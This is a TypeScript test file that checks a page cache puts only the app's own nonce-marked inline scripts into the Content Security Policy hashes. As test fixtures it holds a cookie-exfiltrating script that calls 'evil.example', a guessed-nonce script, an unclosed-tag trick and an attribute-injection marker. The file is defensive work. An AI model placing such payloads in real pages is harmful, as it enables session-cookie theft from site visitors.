import { createHash } from 'node:crypto';
import type { AppLoadContext } from 'react-router';
import { describe, expect, it } from 'vitest';
import { hashedPageContentSecurityPolicy } from '../security/content-security-policy.ts';
import { renderMarker } from '../security/script-nonce.ts';
import { ownInlineScripts } from './inline-scripts.ts';
import { PageCache } from './page-cache.ts';
import { TagClock } from '../content-changes/tag-clock.ts';
import type { RenderedPage } from './stored-page.ts';

const hash = (text: string) => `'sha256-${createHash('sha256').update(text).digest('base64')}'`;
const INJECTED = 'fetch("https://evil.example/?"+document.cookie)';

/** A page as the entry renders it for the cache: its own scripts marked, and one an injection bug let into the content. */
function pageWithInjection(marker: string): string {
  const own = ` nonce="${marker}"`;
  return [
    '<!DOCTYPE html><html><head>',
    `<link rel="modulepreload" href="/assets/a.js"${own}/>`,
    `<script${own}>document.documentElement.dataset.font="x"</script>`,
    '</head><body><article><p>Entry text</p>',
    // What the injection smuggled in: no marker (it cannot know the render's), and one that guesses a marker.
    `<script>${INJECTED}</script><script nonce="guessed-marker-guessed">${INJECTED};1</script>`,
    // An unclosed tag swallowing the next script: the browser runs this one's text, which is not the app's.
    `<script x='`,
    '</article>',
    `<script${own}>window.__reactRouterContext={"state":"\\u003c/script>"}</script>`,
    `<script type="module"${own} async>import "/assets/a.js";</script>`,
    '</body></html>',
  ].join('');
}

describe('the page cache allows only the scripts the app emitted', () => {
  it('hashes the marked scripts and no other, and takes the marker out of the page', () => {
    const marker = renderMarker();
    const { body, hashes } = ownInlineScripts(Buffer.from(pageWithInjection(marker)), marker);
    expect(hashes).toContain(hash('document.documentElement.dataset.font="x"'));
    expect(hashes).toContain(hash('import "/assets/a.js";'));
    expect(hashes).not.toContain(hash(INJECTED));
    expect(hashes).not.toContain(hash(`${INJECTED};1`));
    const html = body.toString();
    expect(html).not.toContain(marker);
    expect(html).toContain(`<script>${INJECTED}</script>`);
    // The marker is no more than an attribute: what is left is the same page.
    expect(html).toBe(pageWithInjection(marker).replaceAll(` nonce="${marker}"`, ''));
  });

  it('refuses a marker anyone could guess', () => {
    for (const weak of ['', 'abc', 'x" onload="y', '1234567890123456789012"']) {
      expect(() => ownInlineScripts(Buffer.from('<script>a()</script>'), weak), weak).toThrow(/random bytes/);
    }
  });

  it('stores a page with an injected script without that script’s hash in its CSP, nor the marker in its bytes', async () => {
    const config = { sentry: { dsn: undefined }, imageHosts: [] } as unknown as Parameters<typeof hashedPageContentSecurityPolicy>[0];
    const cache = new PageCache({
      maxBytes: 1024 * 1024,
      feed: { clock: new TagClock(), live: () => true, close: async () => {} },
      contentSecurityPolicy: (hashes) => hashedPageContentSecurityPolicy(config, hashes),
      mayStore: async () => true,
      log: () => {},
    });
    const marker = renderMarker();
    const render = async (): Promise<RenderedPage> => ({
      status: 200,
      headers: new Headers({ 'content-type': 'text/html; charset=utf-8', 'cache-control': 'public, max-age=0, s-maxage=60' }),
      body: Buffer.from(pageWithInjection(marker)),
      context: { cspNonce: marker, memo: (_key: string, make: () => unknown) => make() } as unknown as AppLoadContext,
    });
    const filled = await cache.fill('page', '/', render);
    const stored = filled.page!;
    expect(stored).toBeDefined();
    const csp = stored.variants.identity.headers['content-security-policy']!;
    const scriptSrc = csp
      .split(';')
      .find((directive) => directive.startsWith('script-src '))!
      .split(' ');
    expect(scriptSrc).toContain(hash('document.documentElement.dataset.font="x"'));
    expect(scriptSrc).not.toContain(hash(INJECTED));
    expect(scriptSrc).not.toContain(hash(`${INJECTED};1`));
    expect(csp).not.toContain('nonce');
    expect(stored.variants.identity.body.toString()).not.toContain(marker);
    // The same page on another render (another marker) is the same bytes: ETags agree between processes.
    const again = renderMarker();
    const other = await new PageCache({ ...cache.options }).fill('page', '/', async () => ({
      ...(await render()),
      body: Buffer.from(pageWithInjection(again)),
      context: { cspNonce: again, memo: (_key: string, make: () => unknown) => make() } as unknown as AppLoadContext,
    }));
    expect(other.page!.variants.identity.headers.etag).toBe(stored.variants.identity.headers.etag);
  });

  it('allows no script of a page rendered without a marker', async () => {
    const cache = new PageCache({
      maxBytes: 0,
      feed: { clock: new TagClock(), live: () => true, close: async () => {} },
      contentSecurityPolicy: (hashes) => `script-src 'self' ${hashes.join(' ')}`.trim(),
      mayStore: async () => true,
      log: () => {},
    });
    const filled = await cache.fill('page', '/', async () => ({
      status: 200,
      headers: new Headers({ 'content-type': 'text/html' }),
      body: Buffer.from('<script>a()</script>'),
    }));
    expect(cache.contentSecurityPolicyOf(filled.rendered!)).toBe("script-src 'self'");
  });
});
